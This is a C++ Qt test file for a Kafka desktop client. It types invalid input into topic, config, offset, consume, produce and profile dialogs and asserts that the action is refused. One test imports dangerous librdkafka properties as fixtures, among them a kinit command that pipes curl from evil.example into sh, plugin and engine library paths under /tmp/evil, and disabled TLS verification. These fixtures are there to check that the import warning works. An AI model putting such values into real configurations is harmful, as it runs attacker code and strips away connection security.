// The bad-input catalogue, part 3 of 3: the dialogs and panes, offscreen, against the shared
// cluster. Each row types one bad input as a user would and asserts the sentence the form shows,
// that the action is disabled (or the form refuses), and that nothing was sent: kcat and
// python3-confluent-kafka see the cluster as before, the profile store file is byte for byte the
// same. Also: importing dangerous librdkafka properties asks first (take or leave, both stored
// as chosen), and read-only connections disable every mutating action with the reason.
// See docs/bad-input-catalogue.md.

#include "cluster/clustersession.h"
#include "dialogs/connectionsdialog.h"
#include "dialogs/editconfigsdialog.h"
#include "dialogs/profileeditor.h"
#include "dialogs/resetoffsetsdialog.h"
#include "dialogs/topicdialog.h"
#include "dialogs/topicdialogmessage.h"
#include "dialogs/topicdialogs.h"
#include "profiles/profilestore.h"
#include "support/groupcommand.h"
#include "support/pythonpeers.h"
#include "support/screenshot.h"
#include "support/testsupport.h"
#include "views/consumedatetimefield.h"
#include "views/consumefilterbar.h"
#include "views/consumeform.h"
#include "views/produceform.h"
#include "views/producepage.h"
#include "widgets/messagelog.h"

#include <QCheckBox>
#include <QComboBox>
#include <QFile>
#include <QLabel>
#include <QLineEdit>
#include <QMessageBox>
#include <QPlainTextEdit>
#include <QPointer>
#include <QPushButton>
#include <QRandomGenerator>
#include <QRegularExpression>
#include <QSignalSpy>
#include <QSpinBox>
#include <QTemporaryDir>
#include <QTest>
#include <QTextBrowser>

using namespace kafdesk;
using namespace kafdesk::test;
using namespace std::chrono_literals;

namespace {

template <typename W>
W *child(QObject *parent, const char *name)
{
    return parent->findChild<W *>(QLatin1String(name));
}

QString messageText(QWidget *dialog, const char *name)
{
    auto *m = child<TopicDialogMessage>(dialog, name);
    return m && m->isVisibleTo(dialog) ? m->text() + QLatin1Char('\n') + m->detail() : QString();
}

void typeInto(QLineEdit *edit, const QString &text)
{
    edit->setFocus();
    edit->selectAll();
    QTest::keyClick(edit, Qt::Key_Backspace);
    if (!text.isEmpty()) {
        bool ascii = true;
        for (const QChar c : text)
            ascii = ascii && c.unicode() >= 0x20 && c.unicode() < 0x7f;
        // Pasted in one go when QTest cannot type it (non-ASCII) or typing would only test the
        // machine (100,000 key events); the form revalidates on the change all the same.
        if (text.size() > 300 || !ascii)
            edit->insert(text);
        else
            QTest::keyClicks(edit, text);
    }
}

QByteArray readAll(const QString &path)
{
    QFile f(path);
    return f.open(QIODevice::ReadOnly) ? f.readAll() : QByteArray("(no file)");
}

const char *describeConfigsScript = R"(
import sys
from confluent_kafka.admin import AdminClient, ConfigResource
admin = AdminClient({'bootstrap.servers': sys.argv[1]})
for f in admin.describe_configs([ConfigResource('topic', sys.argv[2])]).values():
    for name, entry in sorted(f.result(timeout=30).items()):
        print('%s=%s' % (name, entry.value))
)";

} // namespace

class TestBadInputDialogs : public QObject {
    Q_OBJECT
private:
    QString m_bootstrap;
    QString m_topic; // 3 partitions, replication factor 3, retention.ms=86400000
    QString m_group; // committed offset 0 on each partition of m_topic
    std::unique_ptr<ClusterSession> m_session;
    MessageLog m_log;
    QTemporaryDir m_dir;
    int m_files = 0;

    QString kcatList() const
    {
        return run(QStringLiteral("kcat"), {QStringLiteral("-b"), m_bootstrap, QStringLiteral("-L")}).out;
    }
    QString topicConfigs() const
    {
        return run(QStringLiteral("/usr/bin/python3"),
                   {QStringLiteral("-c"), QString::fromLatin1(describeConfigsScript), m_bootstrap, m_topic})
            .out;
    }
    QString writeFile(const QByteArray &content)
    {
        const QString path = m_dir.filePath(QStringLiteral("file-%1.properties").arg(++m_files));
        QFile f(path);
        if (!f.open(QIODevice::WriteOnly) || f.write(content) != content.size())
            qFatal("cannot write %s", qPrintable(path));
        return path;
    }
    // A profile store in a file of its own with one saved profile, so that "unchanged" means the bytes.
    std::unique_ptr<ProfileStore> newStore(QString *file)
    {
        *file = m_dir.filePath(QStringLiteral("settings-%1.conf").arg(++m_files));
        auto store = std::make_unique<ProfileStore>(*file);
        store->setKeychainTimeout(5000);
        ConnectionProfile p;
        p.name = QStringLiteral("existing");
        p.bootstrapServers = QStringLiteral("kafka-1.example.com:9092");
        if (!store->save(p).ok())
            qFatal("cannot save a profile");
        return store;
    }

private Q_SLOTS:
    void initTestCase()
    {
        m_bootstrap = sharedClusterState().bootstrapServers();
        QVERIFY(!m_bootstrap.isEmpty());
        m_topic = uniqueName(QStringLiteral("bid-topic"));
        const RunResult made = ctl({QStringLiteral("topics"), QStringLiteral("create"), m_topic, QStringLiteral("--partitions"),
                                    QStringLiteral("3"), QStringLiteral("--replication-factor"), QStringLiteral("3"),
                                    QStringLiteral("--config"), QStringLiteral("retention.ms=86400000"),
                                    QStringLiteral("--bootstrap"), m_bootstrap});
        QVERIFY2(made.exitCode == 0, qPrintable(made.describe()));
        m_group = uniqueName(QStringLiteral("bid-group"));
        const RunResult commit = commitOffsetsWithPython(
            m_bootstrap, m_group,
            {m_topic + QStringLiteral(":0:0"), m_topic + QStringLiteral(":1:0"), m_topic + QStringLiteral(":2:0")});
        QVERIFY2(commit.exitCode == 0, qPrintable(commit.describe()));
        m_session = std::make_unique<ClusterSession>(ConnectionSettings::forBootstrap(m_bootstrap));
        m_session->setPollInterval(500);
        m_session->start();
        QTRY_VERIFY_WITH_TIMEOUT(m_session->latestSnapshot() && m_session->latestSnapshot()->topic(m_topic) &&
                                     m_session->latestSnapshot()->aliveBrokerIds().size() == 3,
                                 60000);
    }

    // --- Create topic ---------------------------------------------------------------------------
    void createTopic_data()
    {
        QTest::addColumn<QString>("field");
        QTest::addColumn<QString>("value");
        QTest::addColumn<QString>("message");
        QTest::newRow("create dialog: name of 250 characters")
            << QStringLiteral("topicName") << QString(250, QLatin1Char('a'))
            << QStringLiteral("Topic names have at most 249 characters; this one has 250.");
        QTest::newRow("create dialog: name of 100,000 characters")
            << QStringLiteral("topicName") << QString(100000, QLatin1Char('z'))
            // The line edit keeps 32767 characters, QLineEdit's limit; the dialog says what it holds.
            << QStringLiteral("Topic names have at most 249 characters; this one has 32767.");
        QTest::newRow("create dialog: name with a space") << QStringLiteral("topicName") << QStringLiteral("orders and more")
                                                          << QStringLiteral("\"orders and more\" has a space.");
        QTest::newRow("create dialog: name with non-ASCII") << QStringLiteral("topicName") << QStringLiteral("z\u00fcrich")
                                                            << QStringLiteral("has '\u00fc'.");
        QTest::newRow("create dialog: name ..") << QStringLiteral("topicName") << QStringLiteral("..")
                                                << QStringLiteral("Topic names cannot be \".\" or \"..\"");
        QTest::newRow("create dialog: existing name") << QStringLiteral("topicName") << QStringLiteral("EXISTING")
                                                      << QStringLiteral("exists already.");
        QTest::newRow("create dialog: RF 5 on 3 brokers") << QStringLiteral("replicationFactor") << QStringLiteral("5")
                                                          << QStringLiteral("Replication factor 5 needs 5 live brokers; 3 are alive.");
        QTest::newRow("create dialog: retention abc") << QStringLiteral("retentionCustom") << QStringLiteral("abc")
                                                      << QStringLiteral("retention.ms takes milliseconds as a whole number");
        QTest::newRow("create dialog: retention -7") << QStringLiteral("retentionCustom") << QStringLiteral("-7")
                                                     << QStringLiteral("retention.ms must be at least -1");
        QTest::newRow("create dialog: min.insync 3 of RF 2") << QStringLiteral("minInsyncReplicas") << QStringLiteral("3")
                                                             << QStringLiteral("more than the replication factor 2");
    }
    void createTopic()
    {
        QFETCH(QString, field);
        QFETCH(QString, value);
        QFETCH(QString, message);
        QPointer<QDialog> dialog = topicdialogs::createTopic(nullptr, m_session.get(), &m_log);
        auto *d = qobject_cast<TopicDialog *>(dialog.data());
        QVERIFY(d);
        const QString fresh = uniqueName(QStringLiteral("bid-new"));
        if (field != QLatin1String("topicName"))
            typeInto(child<QLineEdit>(dialog, "topicName"), fresh);
        if (field == QLatin1String("topicName")) {
            typeInto(child<QLineEdit>(dialog, "topicName"), value == QLatin1String("EXISTING") ? m_topic : value);
        } else if (field == QLatin1String("retentionCustom")) {
            auto *retention = child<QComboBox>(dialog, "retention");
            retention->setCurrentIndex(retention->count() - 1);
            typeInto(child<QLineEdit>(dialog, "retentionCustom"), value);
        } else if (field == QLatin1String("minInsyncReplicas")) {
            child<QSpinBox>(dialog, "replicationFactor")->setValue(2);
            child<QSpinBox>(dialog, "minInsyncReplicas")->setValue(value.toInt());
        } else {
            child<QSpinBox>(dialog, field.toLatin1().constData())->setValue(value.toInt());
        }
        const QString shown = messageText(dialog, "nameMessage") + messageText(dialog, "validationMessage");
        QVERIFY2(shown.contains(message), qPrintable(shown.left(400)));
        QVERIFY(!d->actionButton()->isEnabled());
        // Enter, and a click on the disabled button, send nothing.
        QTest::keyClick(child<QLineEdit>(dialog, "topicName"), Qt::Key_Return);
        QTest::mouseClick(d->actionButton(), Qt::LeftButton);
        QVERIFY(dialog && !d->isBusy());
        if (qstrcmp(QTest::currentDataTag(), "create dialog: RF 5 on 3 brokers") == 0)
            saveScreenshot(*dialog, QStringLiteral("badinput-createtopic.png"));
        dialog->close();
        QTRY_VERIFY(!dialog);
        QTest::qWait(500);
        QVERIFY(!kcatList().contains(QStringLiteral("topic \"%1\"").arg(fresh)));
    }

    // --- Add partitions ---------------------------------------------------------------------------
    void addPartitions()
    {
        QPointer<QDialog> dialog = topicdialogs::addPartitions(nullptr, m_session.get(), &m_log, m_topic);
        auto *d = qobject_cast<TopicDialog *>(dialog.data());
        auto *total = child<QSpinBox>(dialog, "totalPartitions");
        QTRY_COMPARE(child<QLabel>(dialog, "currentPartitions")->text().contains(QLatin1Char('3')), true);
        for (const int bad : {3, 2, 1}) {
            total->setValue(bad);
            const QString shown = messageText(dialog, "validationMessage");
            QVERIFY2(shown.contains(bad == 3 ? QStringLiteral("has 3 partitions already")
                                             : QStringLiteral("Kafka cannot remove partitions: topic \"%1\" has 3").arg(m_topic)),
                     qPrintable(shown));
            QVERIFY(!d->actionButton()->isEnabled());
        }
        dialog->close();
        QTRY_VERIFY(!dialog);
        QVERIFY(kcatList().contains(QStringLiteral("topic \"%1\" with 3 partitions").arg(m_topic)));
    }

    // --- Edit configs -----------------------------------------------------------------------------
    void editConfigs_data()
    {
        QTest::addColumn<QString>("name");
        QTest::addColumn<QString>("value");
        QTest::addColumn<QString>("message");
        QTest::newRow("edit dialog: retention.ms abc") << QStringLiteral("retention.ms") << QStringLiteral("abc")
                                                       << QStringLiteral("retention.ms takes milliseconds as a whole number");
        QTest::newRow("edit dialog: retention.ms past int64")
            << QStringLiteral("retention.ms") << QStringLiteral("9223372036854775808")
            << QStringLiteral("retention.ms must be at most 9223372036854775807");
        QTest::newRow("edit dialog: min.insync 4 of RF 3") << QStringLiteral("min.insync.replicas") << QStringLiteral("4")
                                                           << QStringLiteral("more than the replication factor 3");
        QTest::newRow("edit dialog: compression zip") << QStringLiteral("compression.type") << QStringLiteral("zip")
                                                      << QStringLiteral("\"zip\" is none of them.");
        QTest::newRow("edit dialog: segment.bytes 10") << QStringLiteral("segment.bytes") << QStringLiteral("10")
                                                       << QStringLiteral("segment.bytes must be at least 1048576");
        QTest::newRow("edit dialog: name with a space") << QStringLiteral("retention ms") << QStringLiteral("1")
                                                        << QStringLiteral("Config names have no spaces");
    }
    void editConfigs()
    {
        QFETCH(QString, name);
        QFETCH(QString, value);
        QFETCH(QString, message);
        QPointer<QDialog> dialog = topicdialogs::editConfigs(nullptr, m_session.get(), &m_log, m_topic);
        auto *edit = qobject_cast<EditConfigsDialog *>(dialog.data());
        QTRY_VERIFY_WITH_TIMEOUT(edit->isLoaded(), 30000);
        typeInto(child<QLineEdit>(dialog, "configName"), name);
        typeInto(child<QLineEdit>(dialog, "configValue"), value);
        const QString shown = messageText(dialog, "editorMessage");
        QVERIFY2(shown.contains(message), qPrintable(shown));
        QVERIFY(!child<QPushButton>(dialog, "setConfig")->isEnabled());
        QTest::keyClick(child<QLineEdit>(dialog, "configValue"), Qt::Key_Return); // Enter does not set it either
        QVERIFY(edit->changes().isEmpty());
        QVERIFY(!edit->actionButton()->isEnabled());
        dialog->close();
        QTRY_VERIFY(!dialog);
        const QString configs = topicConfigs();
        QVERIFY2(configs.contains(QStringLiteral("\nretention.ms=86400000\n")), qPrintable(configs));
        QVERIFY2(configs.contains(QStringLiteral("\nmin.insync.replicas=2\n")), qPrintable(configs));
    }

    // --- Reset offsets ----------------------------------------------------------------------------
    void resetOffsets_data()
    {
        QTest::addColumn<int>("strategy");
        QTest::addColumn<QString>("value");
        QTest::addColumn<QString>("message");
        QTest::newRow("reset dialog: offset abc") << int(ResetStrategy::Offset) << QStringLiteral("abc") << QStringLiteral("abc");
        QTest::newRow("reset dialog: offset -5") << int(ResetStrategy::Offset) << QStringLiteral("-5") << QStringLiteral("-5");
        QTest::newRow("reset dialog: shift by 0") << int(ResetStrategy::ShiftBy) << QStringLiteral("0")
                                                  << QStringLiteral("A shift by 0 changes nothing");
        QTest::newRow("reset dialog: shift by 1.5") << int(ResetStrategy::ShiftBy) << QStringLiteral("1.5")
                                                    << QStringLiteral("1.5");
        QTest::newRow("reset dialog: empty offset") << int(ResetStrategy::Offset) << QString() << QStringLiteral("offset");
    }
    void resetOffsets()
    {
        QFETCH(int, strategy);
        QFETCH(QString, value);
        QFETCH(QString, message);
        auto *dialog = new ResetOffsetsDialog(nullptr, m_session.get(), &m_log, m_group, {m_topic}, m_topic);
        QPointer<QDialog> guard = topicdialogs::showNonModal(dialog);
        dialog->setStrategy(static_cast<ResetStrategy>(strategy));
        typeInto(dialog->valueEdit(), value);
        const Result<ResetOffsetsRequest> r = dialog->currentRequest();
        QVERIFY(!r.ok());
        QVERIFY2(r.error().message.contains(message), qPrintable(r.error().message));
        const QString shown = dialog->inputMessage()->text();
        QVERIFY2(shown.contains(r.error().message), qPrintable(shown));
        QVERIFY(!dialog->actionButton()->isEnabled());
        QTest::qWait(ResetOffsetsDialog::previewDelayMs + 200);
        QVERIFY(!dialog->confirmation());
        dialog->close();
        QTRY_VERIFY(!guard);
        const RunResult described = kafkaTool(groupCommand, {QStringLiteral("--bootstrap-server"), m_bootstrap,
                                                             QStringLiteral("--describe"), QStringLiteral("--group"), m_group});
        const QList<DescribedRow> rows = parseDescribe(described.out);
        QCOMPARE(rows.size(), 3);
        for (const DescribedRow &row : rows)
            QCOMPARE(row.current, QStringLiteral("0")); // as committed, on each partition
    }

    // --- The consume pane's fields (no session needed: the form refuses before anything starts) ----
    void consumeForm_data()
    {
        QTest::addColumn<QString>("field");
        QTest::addColumn<QString>("value");
        QTest::addColumn<QString>("message");
        QTest::newRow("consume: no topic") << QStringLiteral("topic") << QString() << QStringLiteral("Choose the topic to read.");
        QTest::newRow("consume: offset abc") << QStringLiteral("offset") << QStringLiteral("abc")
                                             << QStringLiteral("Enter the offset to start at (0 or more).");
        // The offset field takes digits only (a validator): what it refuses never gets typed.
        QTest::newRow("consume: offset past int64") << QStringLiteral("offset") << QStringLiteral("99999999999999999999")
                                                    << QStringLiteral("FIELD REFUSES");
        QTest::newRow("consume: offset -3") << QStringLiteral("offset") << QStringLiteral("-3") << QStringLiteral("FIELD REFUSES");
        QTest::newRow("consume: partitions x") << QStringLiteral("partitions") << QStringLiteral("x")
                                               << QStringLiteral("\"x\" is not a partition number or a range such as 4-6.");
        QTest::newRow("consume: partition 7 of 3") << QStringLiteral("partitions") << QStringLiteral("7")
                                                   << QStringLiteral("Partition 7 is out of range: topic \"TOPIC\" has 3 "
                                                                     "partitions (0\u20132).");
        QTest::newRow("consume: range backwards") << QStringLiteral("partitions") << QStringLiteral("2-0")
                                                  << QStringLiteral("The partition range 2-0 runs backwards.");
        QTest::newRow("consume: datetime tomorrow-ish") << QStringLiteral("datetime") << QStringLiteral("next tuesday")
                                                        << QStringLiteral("The date-time \"next tuesday\" does not parse.");
        QTest::newRow("consume: datetime empty") << QStringLiteral("datetime") << QString()
                                                 << QStringLiteral("Enter the date-time to start reading at.");
        QTest::newRow("consume: group id empty") << QStringLiteral("group") << QStringLiteral("  ")
                                                 << QStringLiteral("Enter the consumer group id to read as");
    }
    void consumeForm()
    {
        QFETCH(QString, field);
        QFETCH(QString, value);
        QFETCH(QString, message);
        message.replace(QStringLiteral("TOPIC"), m_topic);
        ConsumeForm form;
        form.setSnapshot(m_session->latestSnapshot());
        if (field != QLatin1String("topic"))
            form.setTopic(m_topic);
        if (field == QLatin1String("offset")) {
            form.startCombo()->setCurrentIndex(form.startCombo()->findData(ConsumeForm::AtOffset));
            typeInto(form.offsetEdit(), value);
        } else if (field == QLatin1String("partitions")) {
            typeInto(form.partitionsEdit(), value);
        } else if (field == QLatin1String("datetime")) {
            form.startCombo()->setCurrentIndex(form.startCombo()->findData(ConsumeForm::AtDateTime));
            typeInto(form.dateTimeField()->lineEdit(), value);
        } else if (field == QLatin1String("group")) {
            form.modeCombo()->setCurrentIndex(1);
            typeInto(form.groupEdit(), value);
        }
        if (message == QLatin1String("FIELD REFUSES")) {
            QVERIFY(form.offsetEdit()->validator());
            QVERIFY2(form.offsetEdit()->text() != value, qPrintable(form.offsetEdit()->text()));
            return;
        }
        const Result<ConsumeRequest> r = form.request();
        QVERIFY(!r.ok());
        QVERIFY2(r.error().message.contains(message), qPrintable(r.error().message));
        QVERIFY(r.error().badInput);
    }

    void consumeFilter_data()
    {
        QTest::addColumn<QString>("pattern");
        QTest::addColumn<bool>("noFields");
        QTest::addColumn<QString>("message");
        QTest::newRow("filter: regex with an open bracket") << QStringLiteral("([a-") << false
                                                            << QStringLiteral("The regular expression is not valid: ");
        QTest::newRow("filter: regex of a lone *") << QStringLiteral("*") << false
                                                   << QStringLiteral("The regular expression is not valid: ");
        QTest::newRow("filter: nothing to filter on") << QStringLiteral("abc") << true
                                                      << QStringLiteral("Choose at least one of key, value and headers");
    }
    void consumeFilter()
    {
        QFETCH(QString, pattern);
        QFETCH(bool, noFields);
        QFETCH(QString, message);
        ConsumeFilterBar bar;
        bar.show();
        bar.regexBox()->setChecked(!noFields);
        if (noFields)
            for (QCheckBox *box : {bar.keyBox(), bar.valueBox(), bar.headersBox()})
                box->setChecked(false);
        typeInto(bar.patternEdit(), pattern);
        QTRY_VERIFY2(bar.errorText().contains(message), qPrintable(bar.errorText()));
    }

    // --- The produce pane -------------------------------------------------------------------------
    void producePane_data()
    {
        QTest::addColumn<QString>("format");
        QTest::addColumn<QString>("value");
        QTest::addColumn<QString>("topic");
        QTest::addColumn<QString>("message");
        QTest::newRow("produce: JSON cut short") << QStringLiteral("json") << QStringLiteral("{\"a\": [1, 2") << QStringLiteral("TOPIC")
                                                 << QStringLiteral("The JSON value is not valid at line 1");
        QTest::newRow("produce: hex that is not hex") << QStringLiteral("hex") << QStringLiteral("zz") << QStringLiteral("TOPIC")
                                                      << QStringLiteral("which is not a hex digit");
        QTest::newRow("produce: odd hex digits") << QStringLiteral("hex") << QStringLiteral("abc") << QStringLiteral("TOPIC")
                                                 << QStringLiteral("hex");
        QTest::newRow("produce: no such topic") << QStringLiteral("text") << QStringLiteral("v") << QStringLiteral("MISSING")
                                                << QStringLiteral("does not exist on this cluster");
        QTest::newRow("produce: no topic") << QStringLiteral("text") << QStringLiteral("v") << QString()
                                           << QStringLiteral("Choose the topic to produce to");
    }
    void producePane()
    {
        QFETCH(QString, format);
        QFETCH(QString, value);
        QFETCH(QString, topic);
        QFETCH(QString, message);
        ProducePage page;
        connect(m_session.get(), &ClusterSession::snapshotReady, &page, &ProducePage::showSnapshot);
        page.attach(m_session.get(), &m_log);
        page.show();
        const QString missing = uniqueName(QStringLiteral("bid-missing"));
        page.form()->topicCombo()->setCurrentText(topic == QLatin1String("TOPIC")     ? m_topic
                                                  : topic == QLatin1String("MISSING") ? missing
                                                                                      : QString());
        QComboBox *formats = page.form()->formatCombo();
        formats->setCurrentIndex(formats->findData(format));
        page.form()->valueEdit()->setFocus();
        QTest::keyClicks(page.form()->valueEdit(), value);
        QTRY_VERIFY2(page.sendBlockedReason().contains(message), qPrintable(page.sendBlockedReason()));
        QVERIFY(!page.sendButton()->isEnabled());
        QVERIFY(!page.send());
        QVERIFY(!page.isSending());
        page.attach(nullptr, &m_log);
        const RunResult read = run(QStringLiteral("kcat"), {QStringLiteral("-b"), m_bootstrap, QStringLiteral("-C"), QStringLiteral("-t"),
                                                            m_topic, QStringLiteral("-e"), QStringLiteral("-q")});
        QCOMPARE(read.out, QString()); // the topic is still empty
        QVERIFY(!kcatList().contains(QStringLiteral("topic \"%1\"").arg(missing)));
    }

    // --- The profile editor -----------------------------------------------------------------------
    void profileEditor_data()
    {
        QTest::addColumn<QString>("field");
        QTest::addColumn<QString>("value");
        QTest::addColumn<QString>("label");
        QTest::addColumn<QString>("message");
        QTest::newRow("profile editor: port 70000") << QStringLiteral("bootstrapServers") << QStringLiteral("kafka:70000")
                                                    << QStringLiteral("bootstrapMessage")
                                                    << QStringLiteral("has the port \"70000\": a port is a number from 1 to 65535.");
        QTest::newRow("profile editor: no port") << QStringLiteral("bootstrapServers") << QStringLiteral("kafka")
                                                 << QStringLiteral("bootstrapMessage")
                                                 << QStringLiteral("The bootstrap server \"kafka\" has no port");
        QTest::newRow("profile editor: a URL") << QStringLiteral("bootstrapServers") << QStringLiteral("http://kafka:9092")
                                               << QStringLiteral("bootstrapMessage") << QStringLiteral("has a protocol prefix");
        QTest::newRow("profile editor: host with a space") << QStringLiteral("bootstrapServers") << QStringLiteral("my host:9092")
                                                           << QStringLiteral("bootstrapMessage")
                                                           << QStringLiteral("has a character that is not allowed");
        QTest::newRow("profile editor: empty name") << QStringLiteral("name") << QString() << QStringLiteral("nameMessage")
                                                    << QStringLiteral("The profile needs a name.");
        QTest::newRow("profile editor: name with a slash") << QStringLiteral("name") << QStringLiteral("prod/eu")
                                                           << QStringLiteral("nameMessage")
                                                           << QStringLiteral("The profile name cannot contain / or \\.");
        QTest::newRow("profile editor: name taken") << QStringLiteral("name") << QStringLiteral("existing")
                                                    << QStringLiteral("nameMessage") << QStringLiteral("existing");
    }
    void profileEditor()
    {
        QFETCH(QString, field);
        QFETCH(QString, value);
        QFETCH(QString, label);
        QFETCH(QString, message);
        QString file;
        auto store = newStore(&file);
        const QByteArray before = readAll(file);
        ConnectionsDialog dialog(store.get(), QStringLiteral("local"));
        dialog.show();
        dialog.newProfile();
        ProfileEditor *editor = dialog.editor();
        QTRY_VERIFY(editor->isVisible());
        typeInto(child<QLineEdit>(editor, "name"), QStringLiteral("fresh"));
        typeInto(child<QLineEdit>(editor, "bootstrapServers"), QStringLiteral("127.0.0.1:9092"));
        QVERIFY2(child<QPushButton>(editor, "saveButton")->isEnabled(), qPrintable(editor->problems().join(QLatin1Char('\n'))));
        typeInto(child<QLineEdit>(editor, field.toLatin1().constData()), value);
        const QString shown = child<QLabel>(editor, label.toLatin1().constData())->text();
        QVERIFY2(shown.contains(message), qPrintable(shown));
        QVERIFY(!child<QPushButton>(editor, "saveButton")->isEnabled());
        QVERIFY(!editor->save());
        QVERIFY2(child<QLabel>(editor, "saveStatus")->text().contains(QStringLiteral("Not saved: ")),
                 qPrintable(child<QLabel>(editor, "saveStatus")->text()));
        QCOMPARE(readAll(file), before);
        if (qstrcmp(QTest::currentDataTag(), "profile editor: port 70000") == 0)
            saveScreenshot(dialog, QStringLiteral("badinput-profileeditor.png"));
    }

    // --- client.properties files imported through the connections dialog --------------------------
    void importFile_data()
    {
        QTest::addColumn<QByteArray>("content");
        QTest::addColumn<QString>("message");
        QByteArray junk(8192, Qt::Uninitialized);
        QRandomGenerator random(42);
        for (char &b : junk)
            b = static_cast<char>(random.bounded(256));
        junk[17] = '\0';
        QTest::newRow("import dialog: binary garbage") << junk << QStringLiteral("is not a text file (it has a NUL byte at byte");
        QTest::newRow("import dialog: 10 MB line") << QByteArray("client.id=") + QByteArray(10 * 1024 * 1024, 'y')
                                                   << QStringLiteral("Kafdesk reads files of up to 1 MB.");
        QTest::newRow("import dialog: does not exist") << QByteArray() << QStringLiteral("Cannot read ");
    }
    void importFile()
    {
        QFETCH(QByteArray, content);
        QFETCH(QString, message);
        QString file;
        auto store = newStore(&file);
        const QByteArray before = readAll(file);
        const QString path = content.isEmpty() ? m_dir.filePath(QStringLiteral("missing.properties")) : writeFile(content);
        ConnectionsDialog dialog(store.get(), QStringLiteral("local"));
        dialog.show();
        dialog.importFile(path);
        auto *report = child<QTextBrowser>(&dialog, "importReport");
        QTRY_VERIFY(report->isVisible());
        QVERIFY2(report->toPlainText().contains(message), qPrintable(report->toPlainText().left(400)));
        QVERIFY(!dialog.editor()->isVisible()); // no half-imported profile to save
        QVERIFY(!child<QMessageBox>(&dialog, "dangerousBox"));
        QCOMPARE(readAll(file), before);
        QCOMPARE(store->profileNames(), QStringList{QStringLiteral("existing")});
    }

    // --- Dangerous librdkafka properties in an imported file: asked first, stored as chosen -------
    void dangerousImport_data()
    {
        QTest::addColumn<QString>("line");
        QTest::addColumn<QString>("key");
        QTest::addColumn<QString>("stored");
        QTest::addColumn<bool>("take");
        const struct {
            const char *line;
            const char *key;
            const char *stored;
        } cases[] = {
            {"ssl.endpoint.identification.algorithm=none", "ssl.endpoint.identification.algorithm", "none"},
            {"enable.ssl.certificate.verification=false", "enable.ssl.certificate.verification", "false"},
            {"plugin.library.paths=/tmp/evil/libplugin.so", "plugin.library.paths", "/tmp/evil/libplugin.so"},
            {"sasl.oauthbearer.token.endpoint.url=https://evil.example/token", "sasl.oauthbearer.token.endpoint.url",
             "https://evil.example/token"},
            {"sasl.kerberos.kinit.cmd=curl https://evil.example/x | sh", "sasl.kerberos.kinit.cmd",
             "curl https://evil.example/x | sh"},
            {"ssl.engine.location=/tmp/evil/engine.so", "ssl.engine.location", "/tmp/evil/engine.so"},
        };
        for (const auto &c : cases)
            for (const bool take : {false, true})
                QTest::addRow("dangerous %s: %s", c.key, take ? "taken" : "left out")
                    << QString::fromLatin1(c.line) << QString::fromLatin1(c.key) << QString::fromLatin1(c.stored) << take;
    }
    void dangerousImport()
    {
        QFETCH(QString, line);
        QFETCH(QString, key);
        QFETCH(QString, stored);
        QFETCH(bool, take);
        QString file;
        auto store = newStore(&file);
        const QByteArray before = readAll(file);
        const QString path = writeFile(QByteArray("bootstrap.servers=kafka-9.example.com:9092\n") + line.toUtf8() +
                                       QByteArray("\nrequest.timeout.ms=20000\n"));
        ConnectionsDialog dialog(store.get(), QStringLiteral("local"));
        dialog.show();
        dialog.importFile(path);
        QMessageBox *box = nullptr;
        QTRY_VERIFY((box = child<QMessageBox>(&dialog, "dangerousBox")) && box->isVisible());
        QVERIFY2(box->informativeText().contains(key), qPrintable(box->informativeText()));
        QVERIFY(box->text().contains(QStringLiteral("Take them into the profile?")));
        QCOMPARE(box->defaultButton(), child<QPushButton>(box, "leaveDangerous")); // Enter leaves them out
        // Nothing is stored while the question is open.
        QCOMPARE(readAll(file), before);
        if (key == QLatin1String("plugin.library.paths") && !take)
            saveScreenshot(*box, QStringLiteral("badinput-dangerous-import.png"));
        QTest::mouseClick(child<QPushButton>(box, take ? "takeDangerous" : "leaveDangerous"), Qt::LeftButton);
        ProfileEditor *editor = dialog.editor();
        QTRY_VERIFY(editor->isVisible());
        QCOMPARE(editor->profile().extraProperties.contains(key), take);
        QCOMPARE(editor->profile().extraProperties.value(QStringLiteral("request.timeout.ms")), QStringLiteral("20000"));
        // Either answer leaves the store as it was until Save.
        QCOMPARE(readAll(file), before);
        QCOMPARE(store->profileNames(), QStringList{QStringLiteral("existing")});
        if (take) // the editor says so
            QVERIFY2(child<QLabel>(editor, "extrasMessage")->text().contains(QStringLiteral("Dangerous: ") + key),
                     qPrintable(child<QLabel>(editor, "extrasMessage")->text()));

        const QString name = editor->profile().name;
        QSignalSpy saved(store.get(), &ProfileStore::saved);
        QSignalSpy failed(store.get(), &ProfileStore::secretsFailed);
        QVERIFY2(editor->save(), qPrintable(editor->problems().join(QLatin1Char('\n'))));
        QTRY_VERIFY_WITH_TIMEOUT(saved.size() + failed.size() >= 1, 10000);
        const ProfileStore reread(file);
        const Result<ConnectionProfile> back = reread.load(name);
        QVERIFY(back.ok());
        QCOMPARE(back->extraProperties.contains(key), take);
        if (take)
            QCOMPARE(back->extraProperties.value(key), stored);
        QCOMPARE(back->bootstrapServers, QStringLiteral("kafka-9.example.com:9092"));
    }

    void cleanupTestCase()
    {
        m_session.reset();
        if (!m_topic.isEmpty())
            ctl({QStringLiteral("topics"), QStringLiteral("delete"), m_topic, QStringLiteral("--yes"), QStringLiteral("--bootstrap"),
                 m_bootstrap});
    }
};

QTEST_MAIN(TestBadInputDialogs)
#include "tst_badinputdialogs.moc"
